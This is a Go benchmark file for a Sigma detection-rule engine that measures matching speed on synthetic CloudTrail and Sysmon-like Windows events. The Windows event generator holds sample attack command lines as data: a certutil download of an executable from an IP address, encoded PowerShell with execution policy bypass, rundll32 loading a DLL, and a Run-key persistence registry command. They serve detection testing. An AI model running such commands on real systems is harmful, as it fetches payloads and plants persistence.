package evaluator

import (
	"context"
	"encoding/json"
	"fmt"
	"math/bits"
	"math/rand/v2"
	"os"
	"path/filepath"
	"testing"

	sigmaeval "github.com/bradleyjkemp/sigma-go/evaluator"

	"github.com/sigmabridge/sigmabridge/ruleset"
	"github.com/sigmabridge/sigmabridge/translator/ir"
)

// The benchmarks measure decode + match of one event on one goroutine and report
// events/s. BenchmarkCloudTrail runs sigmabridge and sigma-go's evaluator on the same 40
// rules and the same events in the same run; compare their events/s.
//
//	go test ./translator/evaluator -run '^$' -bench . -benchtime 2s

const benchRules, benchEvents = 40, 2000

type cloudTrailBench struct {
	texts  []string
	rules  []*ir.Rule
	events [][]byte
	bytes  int
}

func newCloudTrailBench(b *testing.B) *cloudTrailBench {
	r := rand.New(rand.NewPCG(2026, 1648))
	cb := &cloudTrailBench{}
	for i := 0; i < benchRules; i++ {
		text := cloudTrailRule(r, i)
		cb.texts = append(cb.texts, text)
		cb.rules = append(cb.rules, loadRuleText(b, fmt.Sprintf("bench%d.yml", i), text))
	}
	for i := 0; i < benchEvents; i++ {
		e := cloudTrailEvent(r)
		cb.events = append(cb.events, e)
		cb.bytes += len(e)
	}
	return cb
}

func reportEventsPerSecond(b *testing.B) {
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkCloudTrail(b *testing.B) {
	cb := newCloudTrailBench(b)
	b.Run("sigmabridge", func(b *testing.B) {
		prog, errs := Compile(cb.rules)
		if len(errs) > 0 {
			b.Fatal(errs)
		}
		m := prog.NewMatcher()
		b.SetBytes(int64(cb.bytes / len(cb.events)))
		b.ReportAllocs()
		b.ResetTimer()
		hits := 0
		for i := 0; i < b.N; i++ {
			ms, err := m.MatchJSON(cb.events[i%len(cb.events)])
			if err != nil {
				b.Fatal(err)
			}
			hits += len(ms)
		}
		reportEventsPerSecond(b)
		b.ReportMetric(float64(hits)/float64(b.N), "matches/event")
	})
	b.Run("sigma-go", func(b *testing.B) {
		var evs []*sigmaeval.RuleEvaluator
		for _, text := range cb.texts {
			evs = append(evs, sigmaGoRule(b, text))
		}
		ctx := context.Background()
		b.SetBytes(int64(cb.bytes / len(cb.events)))
		b.ReportAllocs()
		b.ResetTimer()
		hits := 0
		for i := 0; i < b.N; i++ {
			var decoded map[string]any
			if err := json.Unmarshal(cb.events[i%len(cb.events)], &decoded); err != nil {
				b.Fatal(err)
			}
			flat := flatten("", decoded, make(map[string]any, 48))
			for _, ev := range evs {
				res, err := ev.Matches(ctx, flat)
				if err != nil {
					b.Fatal(err)
				}
				if res.Match {
					hits++
				}
			}
		}
		reportEventsPerSecond(b)
		b.ReportMetric(float64(hits)/float64(b.N), "matches/event")
	})
}

// BenchmarkDecodeOnly measures the JSON scanner alone against encoding/json on the same
// CloudTrail events (the scanner follows the fields of the 40 benchmark rules).
func BenchmarkDecodeOnly(b *testing.B) {
	cb := newCloudTrailBench(b)
	b.Run("scanner", func(b *testing.B) {
		prog, _ := Compile(cb.rules)
		m := prog.NewMatcher()
		b.SetBytes(int64(cb.bytes / len(cb.events)))
		for i := 0; i < b.N; i++ {
			m.ev.reset(len(prog.trie.fields))
			if err := decodeJSON(&m.ev, prog.trie.root, cb.events[i%len(cb.events)]); err != nil {
				b.Fatal(err)
			}
		}
		reportEventsPerSecond(b)
	})
	b.Run("encoding-json", func(b *testing.B) {
		b.SetBytes(int64(cb.bytes / len(cb.events)))
		for i := 0; i < b.N; i++ {
			var decoded map[string]any
			if err := json.Unmarshal(cb.events[i%len(cb.events)], &decoded); err != nil {
				b.Fatal(err)
			}
		}
		reportEventsPerSecond(b)
	})
}

// corpusRules loads every rule of the SigmaHQ corpus that compiles; it skips the test or
// benchmark when SIGMABRIDGE_CORPUS is unset.
func corpusRules(tb testing.TB) []*ir.Rule {
	dir := os.Getenv("SIGMABRIDGE_CORPUS")
	if dir == "" {
		tb.Skip("SIGMABRIDGE_CORPUS is not set: skipping the SigmaHQ corpus")
	}
	var paths []string
	for _, sub := range []string{"rules", "rules-emerging-threats", "rules-threat-hunting", "rules-compliance", "rules-placeholder", "rules-dfir"} {
		if _, err := os.Stat(filepath.Join(dir, sub)); err == nil {
			paths = append(paths, filepath.Join(dir, sub))
		}
	}
	files, diags := ruleset.Discover(paths)
	if len(files) == 0 {
		tb.Fatalf("no rule files under %s: %v", dir, diags)
	}
	rules, _ := ruleset.Load(files)
	return rules
}

// windowsEvent returns a Sysmon-like Windows event (process creation, network, registry
// or file) of about 1 KB.
func windowsEvent(r *rand.Rand) []byte {
	images := []string{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`C:\Windows\System32\rundll32.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`C:\Windows\System32\svchost.exe`, `C:\Users\alice\AppData\Local\Temp\updater.exe`, `C:\Windows\System32\reg.exe`,
		`C:\Windows\System32\certutil.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`}
	cmds := []string{`cmd.exe /c whoami /all`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgA`,
		`rundll32.exe C:\Users\Public\x.dll,DllRegisterServer`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`,
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe`,
		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe`, `C:\Windows\Explorer.EXE`}
	img := pick(r, images)
	ev := map[string]any{
		"EventID": pick(r, []int{1, 1, 1, 3, 11, 13}), "Channel": "Microsoft-Windows-Sysmon/Operational",
		"Computer": fmt.Sprintf("WS%04d.corp.example", r.IntN(5000)), "UtcTime": "2026-11-27 10:00:00.000",
		"ProcessGuid": fmt.Sprintf("{%08x-1234-5678-9abc-%012x}", r.Uint32(), r.Uint64()>>16), "ProcessId": r.IntN(65536),
		"Image": img, "FileVersion": "10.0.19041.1", "Description": "Windows Command Processor", "Product": "Microsoft® Windows® Operating System",
		"Company": "Microsoft Corporation", "OriginalFileName": filepath.Base(img), "CommandLine": pick(r, cmds),
		"CurrentDirectory": `C:\Users\alice\`, "User": pick(r, []string{`CORP\alice`, `NT AUTHORITY\SYSTEM`, `CORP\bob`}),
		"LogonId": "0x3e7", "IntegrityLevel": pick(r, []string{"High", "Medium", "System"}),
		"Hashes":      fmt.Sprintf("SHA256=%016X%016X%016X%016X,IMPHASH=%016X%016X", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64()),
		"ParentImage": pick(r, images), "ParentCommandLine": pick(r, cmds), "ParentUser": `CORP\alice`,
		"TargetObject":    `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x`,
		"DestinationIp":   fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), r.IntN(256)),
		"DestinationPort": pick(r, []int{80, 443, 445, 4444, 3389}),
		"TargetFilename":  `C:\Users\alice\AppData\Local\Temp\` + fmt.Sprintf("tmp%04d.tmp", r.IntN(10000)),
	}
	b, _ := json.Marshal(ev)
	return b
}

// BenchmarkCorpus loads the whole SigmaHQ corpus and matches Windows and CloudTrail events.
func BenchmarkCorpus(b *testing.B) {
	rules := corpusRules(b)
	prog, errs := Compile(rules)
	r := rand.New(rand.NewPCG(3, 4))
	var events [][]byte
	for i := 0; i < benchEvents; i++ {
		if i%4 == 3 {
			events = append(events, cloudTrailEvent(r))
		} else {
			events = append(events, windowsEvent(r))
		}
	}
	b.Run("sigmabridge", func(b *testing.B) {
		b.Logf("%d rules compiled, %d rejected", prog.Len(), len(errs))
		m := prog.NewMatcher()
		b.ReportAllocs()
		b.ResetTimer()
		hits := 0
		for i := 0; i < b.N; i++ {
			ms, err := m.MatchJSON(events[i%len(events)])
			if err != nil {
				b.Fatal(err)
			}
			hits += len(ms)
		}
		reportEventsPerSecond(b)
		b.ReportMetric(float64(hits)/float64(b.N), "matches/event")
		b.ReportMetric(float64(prog.Len()), "rules")
		b.StopTimer()
		// how many rules the prefilter leaves to evaluate, on average
		cands := 0
		for _, e := range events {
			_, _ = m.MatchJSON(e)
			for _, w := range m.cand.words {
				cands += bits.OnesCount64(w)
			}
		}
		b.ReportMetric(float64(cands)/float64(len(events)), "candidates/event")
	})
}
